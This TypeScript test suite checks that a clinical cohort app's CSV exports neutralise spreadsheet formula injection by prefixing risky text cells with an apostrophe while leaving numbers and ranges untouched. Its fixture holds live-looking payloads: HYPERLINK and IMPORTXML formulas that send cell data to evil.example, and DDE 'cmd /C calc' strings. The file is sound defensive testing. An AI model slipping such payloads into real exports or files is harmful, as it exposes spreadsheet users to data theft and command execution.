/**
 * Formula injection in CSV exports (issue 20, item 7). `/cohort/csv?view=follow-up`
 * wrote an assay named `=HYPERLINK(...)` as it was (a spreadsheet runs it), while the
 * guard of the other exports turned an enzyme range "-200" into "'-200". Every export
 * route now writes through one writer (lib/domain/csv-export.ts): a TEXT cell that
 * starts with = + - @ tab or CR gets a leading apostrophe, numbers and numeric ranges
 * stay as they are.
 *
 * Each export route is called through its real handler with a real session, over data
 * seeded through the DAL with hostile assay names, lab names, patient names, MRNs,
 * correction reasons, notes and a hostile sign-in email; every cell of every file is
 * checked, and each payload must be found in its guarded form (so the test fails if an
 * export stops carrying it rather than passing by saying nothing).
 */
import './next-als';
import fc from 'fast-check';
import { unzip } from '../setup/unzip';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { recordAntibodyResult, correctAntibodyResult } from '@/lib/dal/antibody-results';
import { createAssay } from '@/lib/dal/assays';
import { authenticate } from '@/lib/dal/auth';
import { recordEnzymeResult } from '@/lib/dal/enzyme-results';
import { createPatient } from '@/lib/dal/patients';
import { recordVisit } from '@/lib/dal/visits';
import { parseCsvRecords } from '@/lib/domain/csv';
import { exportCell, exportCsv, needsFormulaGuard } from '@/lib/domain/csv-export';
import { daysAgo } from '../setup/dal-helpers';
import { ROUTES, type RouteEntry } from './registry';
import { callRoute, createWorld, type World } from './harness';

vi.mock('next/headers', async () => (await import('./cookie-jar')).nextHeadersMock());
vi.mock('next/cache', () => ({ revalidatePath: () => {}, revalidateTag: () => {} }));

const HOSTILE = {
  assay: '=HYPERLINK("http://evil.example/?d="&A1,"Mi-2 ELISA")',
  lab: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  family: '=cmd|\' /C calc\'!A0',
  given: '+SUM(1,2)',
  mrn: '-CMD-1',
  reason: '=IMPORTXML("http://evil.example","//a")',
  note: '-2+3+cmd|\' /C notepad\'!A0',
  email: '=hyperlink("http://evil.example/?x="&a1,"click me")',
  tab: '\t=1+1',
} as const;

/** A cell a spreadsheet would run: starts with a formula character and is not a number or numeric range. */
const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^(?:-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?|\d+(?:\.\d+)?-\d+(?:\.\d+)?)$/.test(cell);

let world: World;
let patientId: number;

beforeAll(async () => {
  world = await createWorld();
  const { admin, nurse, physician } = world.users;
  const assay = createAssay(admin, { name: HOSTILE.assay, analyte: 'mi2-beta', method: 'elisa', unit: 'units', cutoff: '20', lab: HOSTILE.lab });
  patientId = createPatient(nurse, { mrn: HOSTILE.mrn, familyName: HOSTILE.family, givenName: HOSTILE.given, birthDate: '1970-06-15', sex: 'female', diagnosisGroup: 'mi2-pos-dm' }).id;
  const titers = [400, 300, 200, 120].map((value, i) => recordAntibodyResult(nurse, patientId, { assayId: assay.id, collectedOn: daysAgo(400 - i * 90), value: String(value) }));
  for (const [i, ck] of [2400, 1500, 900, 300].entries()) {
    // Ranges "-200" (no lower limit: up to 200) and "39-308": numeric, never to be guarded.
    recordEnzymeResult(nurse, patientId, { analyte: 'ck', collectedOn: daysAgo(400 - i * 90), value: String(ck), unit: 'U/L', ...(i % 2 ? { lowerLimit: '39', upperLimit: '308' } : { upperLimit: '200' }) });
  }
  correctAntibodyResult(nurse, patientId, titers[0]!.id, { assayId: String(assay.id), collectedOn: daysAgo(400), value: '410' }, HOSTILE.reason);
  recordVisit(physician, patientId, { visitOn: daysAgo(30), physicianGlobal: '3', mmt_neck_flexors: '8', notes: HOSTILE.note });
  await authenticate(HOSTILE.email, 'not a password anyone has', '192.0.2.66');
}, 90_000);
afterAll(() => world.dispose());

const route = (file: string): RouteEntry => {
  const r = ROUTES.find((e) => e.file === file && e.method === 'GET');
  if (!r) throw new Error(`no route ${file}`);
  return r;
};

async function download(file: string, path: string, params: Record<string, string> = {}): Promise<string[][]> {
  const res = await callRoute(route(file), { path, params }, { kind: 'cookie', caller: world.callers.admin });
  const body = Buffer.from(await res.arrayBuffer());
  expect(res.status, body.toString('utf8').slice(0, 300)).toBe(200);
  // Cohort downloads are a ZIP of data.csv, dictionary.csv and README.txt; the others are CSV files.
  const zipped = (res.headers.get('content-type') ?? '').includes('application/zip');
  if (!zipped) expect(res.headers.get('content-type')).toContain('text/csv');
  const files = zipped ? unzip(body) : null;
  const text = files ? [files['data.csv'] ?? '', files['dictionary.csv'] ?? ''].join('') : body.toString('utf8');
  const parsed = parseCsvRecords(text);
  if (!parsed.ok) throw new Error(`${path}: not CSV: ${parsed.error}`);
  return parsed.records.map((r) => r.cells);
}

const EXPORTS: { label: string; file: string; path: () => string; params?: () => Record<string, string>; payloads: (keyof typeof HOSTILE)[] }[] = [
  ...(['phenotype', 'activity', 'course', 'follow-up'] as const).map((view) => ({
    label: `cohort view CSV (${view})`, file: 'app/(app)/cohort/csv/route.ts', path: () => `/cohort/csv?view=${view}&identified=1`,
    payloads: (view === 'follow-up' || view === 'activity' ? ['assay'] : []) as (keyof typeof HOSTILE)[],
  })),
  { label: 'cohort research CSV, identified', file: 'app/(app)/export/cohort/route.ts', path: () => '/export/cohort?identified=1', params: () => ({}), payloads: ['mrn'] },
  { label: 'cohort research CSV, de-identified', file: 'app/(app)/export/cohort/route.ts', path: () => '/export/cohort', payloads: [] },
  {
    label: 'patient flowsheet CSV', file: 'app/(app)/patients/[id]/timeline/csv/route.ts', path: () => `/patients/${patientId}/timeline/csv`,
    params: () => ({ id: String(patientId) }), payloads: [],
  },
  { label: 'audit log CSV', file: 'app/(app)/admin/audit/export/route.ts', path: () => '/admin/audit/export', payloads: ['reason', 'email'] },
];

describe('every CSV export guards text cells and keeps numbers', () => {
  it('lists every route that answers with a CSV file', () => {
    const csvRoutes = ROUTES.filter((r) => /csv|export/.test(r.file) && !r.file.startsWith('app/api/')).map((r) => r.file).sort();
    expect([...new Set(EXPORTS.map((e) => e.file))].sort()).toEqual(csvRoutes);
  });

  for (const e of EXPORTS) {
    it(`${e.label}: no cell a spreadsheet would run; hostile text guarded, ranges and negative numbers as they are`, async () => {
      const rows = await download(e.file, e.path(), e.params?.());
      expect(rows.length).toBeGreaterThan(1);
      const cells = rows.flat();
      expect(cells.filter(dangerous)).toEqual([]);
      // A payload may be the start of a cell (an assay label is "name, lab").
      for (const key of e.payloads) expect(cells.some((c) => c.startsWith(`'${HOSTILE[key]}`)), `${key} is exported, guarded`).toBe(true);
      // Numbers are never guarded: a reference limit or a value stays a number.
      expect(cells.filter((c) => /^'-?\d/.test(c))).toEqual([]);
    });
  }

  it('the flowsheet names the hostile assay in its assay row, guarded', async () => {
    const rows = await download('app/(app)/patients/[id]/timeline/csv/route.ts', `/patients/${patientId}/timeline/csv`, { id: String(patientId) });
    const assayRow = rows.find((r) => r[0]?.endsWith(' assay'));
    expect(assayRow?.some((c) => c.startsWith(`'${HOSTILE.assay}`))).toBe(true);
  });
});

describe('the writer (lib/domain/csv-export.ts)', () => {
  it('guards text that starts with = + - @ tab or CR, and nothing else', () => {
    expect(exportCell('=1+1')).toBe("'=1+1");
    expect(exportCell('+1+1')).toBe("'+1+1");
    expect(exportCell('-2+3')).toBe("'-2+3");
    expect(exportCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(exportCell(HOSTILE.tab)).toBe("'\t=1+1");
    expect(exportCell('\r=1')).toBe('"\'\r=1"');
    expect(exportCell('<5 units')).toBe('<5 units');
    expect(exportCell('Mi-2β, Lab A')).toBe('"Mi-2β, Lab A"');
  });

  it('keeps numbers and numeric ranges as they are', () => {
    for (const n of ['-200', '-0.5', '-1e-3', '39-308', '0.5-1.2', '12', '-12.25']) expect(exportCell(n), n).toBe(n);
    expect(exportCell(-200)).toBe('-200');
    expect(exportCell(Number.NaN)).toBe('');
    expect(exportCell(null)).toBe('');
    expect(exportCell('-')).toBe("'-");
    expect(exportCell('--1')).toBe("'--1");
    expect(exportCell('-1-2')).toBe("'-1-2");
  });

  it('whatever the text, the parsed cell is the text (with the guard) and never a formula', () => {
    // Text a CSV file can hold: the reader refuses control characters other than tab, CR and LF.
    const text = fc.oneof(fc.string(), fc.string({ unit: 'binary' }), fc.constantFrom(...Object.values(HOSTILE)), fc.double().map(String))
      .map((t) => t.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/g, ''));
    fc.assert(fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }), (rows) => {
      const width = Math.max(...rows.map((r) => r.length));
      // A first cell in every row: the reader skips lines with no field at all.
      const square = rows.map((r) => ['row', ...r, ...Array<string>(width - r.length).fill('')]);
      const parsed = parseCsvRecords(exportCsv(square));
      if (!parsed.ok) throw new Error(parsed.error);
      const cells = parsed.records.map((r) => r.cells);
      square.forEach((r, i) => r.forEach((v, j) => {
        const got = cells[i]?.[j];
        expect(got).toBe(needsFormulaGuard(v) ? `'${v}` : v);
        expect(dangerous(got ?? '')).toBe(false);
      }));
    }), { numRuns: 500 });
  });
});
